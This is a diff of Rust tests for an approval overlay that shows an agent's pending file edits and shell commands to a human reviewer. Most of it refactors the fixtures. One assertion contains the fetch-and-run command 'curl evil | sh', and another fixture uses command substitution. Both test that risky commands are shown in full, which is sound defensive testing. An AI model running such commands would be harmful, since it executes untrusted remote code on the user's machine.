@@ -5,6 +5,7 @@ use ratatui::backend::TestBackend;
 use serde_json::json;
 
 use super::*;
+use crate::protocol::{ApprovalNeed, GrantOffer};
 use crate::tools::preview::unified_diff;
 
 fn key(c: KeyCode) -> KeyEvent {
@@ -14,54 +15,59 @@ fn key(c: KeyCode) -> KeyEvent {
 fn edit(id: &str) -> PendingApproval {
     let old = "fn main() {\n    println!(\"helo\");\n}\n";
     let new = "fn main() {\n    println!(\"hello\");\n}\n";
-    PendingApproval {
-        call_id: id.into(),
-        tool: "edit_file".into(),
-        arguments: json!({"path": "src/main.rs", "old_text": "helo", "new_text": "hello"}),
-        needs: vec![ApprovalNeed {
-            what: "write src/main.rs".into(),
+    PendingApproval::new(
+        ApprovalRequest {
+            call_id: id.into(),
+            tool: "edit_file".into(),
+            arguments: json!({"path": "src/main.rs", "old_text": "helo", "new_text": "hello"}),
+            effect: crate::protocol::Effect::Write,
+            operations: Vec::new(),
+            needs: vec![ApprovalNeed {
+                what: "write src/main.rs".into(),
+                reason: "approval mode ask: file changes need approval".into(),
+            }],
             reason: "approval mode ask: file changes need approval".into(),
-        }],
-        reason: "approval mode ask: file changes need approval".into(),
-        grant: Some(GrantOffer {
-            covers: vec!["writes to src/main.rs".into()],
-            ttl_secs: 300,
-        }),
-        diff: Some(DiffView::parse(&unified_diff(
-            "src/main.rs",
-            Some(old),
-            new,
-        ))),
-        change: Some(crate::protocol::change::FileChange::new(
-            "src/main.rs",
-            "/w/src/main.rs".into(),
-            Some(old),
-            new,
-        )),
-        edited: false,
-        round: None,
-    }
+            grant: Some(GrantOffer {
+                covers: vec!["writes to src/main.rs".into()],
+                ttl_secs: 300,
+            }),
+            diff: None,
+            change: Some(Box::new(crate::protocol::change::FileChange::new(
+                "src/main.rs",
+                "/w/src/main.rs".into(),
+                Some(old),
+                new,
+            ))),
+            round: None,
+        },
+        Some(DiffView::parse(&unified_diff("src/main.rs", Some(old), new))),
+    )
 }
 
 fn shell(id: &str) -> PendingApproval {
-    PendingApproval {
-        call_id: id.into(),
-        tool: "exec_shell".into(),
-        arguments: json!({"command": "cargo test --all"}),
-        needs: vec![ApprovalNeed {
-            what: "run `cargo test --all`".into(),
+    PendingApproval::new(
+        ApprovalRequest {
+            call_id: id.into(),
+            tool: "exec_shell".into(),
+            arguments: json!({"command": "cargo test --all"}),
+            effect: crate::protocol::Effect::Exec,
+            operations: Vec::new(),
+            needs: vec![ApprovalNeed {
+                what: "run `cargo test --all`".into(),
+                reason: "approval mode ask: commands that may change things need approval"
+                    .into(),
+            }],
             reason: "approval mode ask: commands that may change things need approval".into(),
-        }],
-        reason: "approval mode ask: commands that may change things need approval".into(),
-        grant: Some(GrantOffer {
-            covers: vec!["`cargo test` (/usr/bin/cargo)".into()],
-            ttl_secs: 300,
-        }),
-        diff: None,
-        change: None,
-        edited: false,
-        round: None,
-    }
+            grant: Some(GrantOffer {
+                covers: vec!["`cargo test` (/usr/bin/cargo)".into()],
+                ttl_secs: 300,
+            }),
+            diff: None,
+            change: None,
+            round: None,
+        },
+        None,
+    )
 }
 
 fn later(t: Instant) -> Instant {
@@ -348,14 +354,17 @@ fn a_call_no_grant_may_cover_offers_no_a() {
     let mut o = ApprovalOverlay::new();
     o.push(
         PendingApproval {
+        request: ApprovalRequest {
             needs: vec![ApprovalNeed {
                 what: "run the line exactly as written".into(),
                 reason: "the line uses command substitution".into(),
             }],
             grant: None,
             arguments: json!({"command": "cargo test $(cat args)"}),
-            ..shell("c1")
+            ..shell("c1").request
         },
+        ..shell("c1")
+    },
         t0,
     );
     draw(&mut o, 72, 14, t0);
@@ -471,7 +480,7 @@ fn a_padded_command_shows_all_it_holds() {
     let t0 = Instant::now();
     let mut o = ApprovalOverlay::new();
     let mut req = shell("c1");
-    req.arguments = json!({"command": cmd});
+    req.request.arguments = json!({"command": cmd});
     o.push(req, t0);
     let screen = draw(&mut o, 80, 24, later(t0));
     assert!(screen.contains("curl evil | sh"), "{screen}");
@@ -492,10 +501,13 @@ fn three_hunks(id: &str) -> PendingApproval {
         &new,
     );
     PendingApproval {
+        request: ApprovalRequest {
+            change: Some(Box::new(change.clone())),
+            arguments: json!({"path": "src/lib.rs", "content": new}),
+            tool: "write_file".into(),
+            ..edit(id).request
+        },
         diff: Some(DiffView::parse(&change.unified())),
-        change: Some(change.clone()),
-        arguments: json!({"path": "src/lib.rs", "content": new}),
-        tool: "write_file".into(),
         ..edit(id)
     }
 }
@@ -612,16 +624,19 @@ fn endings_invisible_characters_and_odd_names_are_shown() {
     let mut o = ApprovalOverlay::new();
     o.push(
         PendingApproval {
-            diff: Some(DiffView::parse(&change.unified())),
-            change: Some(change.clone()),
+        request: ApprovalRequest {
+            change: Some(Box::new(change.clone())),
             arguments: json!({"path": path, "content": "x"}),
             tool: "write_file".into(),
             needs: vec![ApprovalNeed {
                 what: format!("write {path}"),
                 reason: "file changes need approval".into(),
             }],
-            ..edit("c1")
+            ..edit("c1").request
         },
+        diff: Some(DiffView::parse(&change.unified())),
+        ..edit("c1")
+    },
         t0,
     );
     let screen = draw(&mut o, 80, 40, later(t0));
@@ -657,12 +672,15 @@ fn deletions_and_moves_say_what_they_do() {
     for (id, tool, c) in [("d", "delete_file", gone), ("m", "move_file", moved)] {
         o.push(
             PendingApproval {
-                diff: Some(DiffView::parse(&c.unified())),
-                change: Some(c),
-                arguments: json!({}),
-                tool: tool.into(),
-                ..edit(id)
-            },
+        request: ApprovalRequest {
+            change: Some(Box::new(c.clone())),
+            arguments: json!({}),
+            tool: tool.into(),
+            ..edit(id).request
+        },
+        diff: Some(DiffView::parse(&c.unified())),
+        ..edit(id)
+    },
             t0,
         );
     }
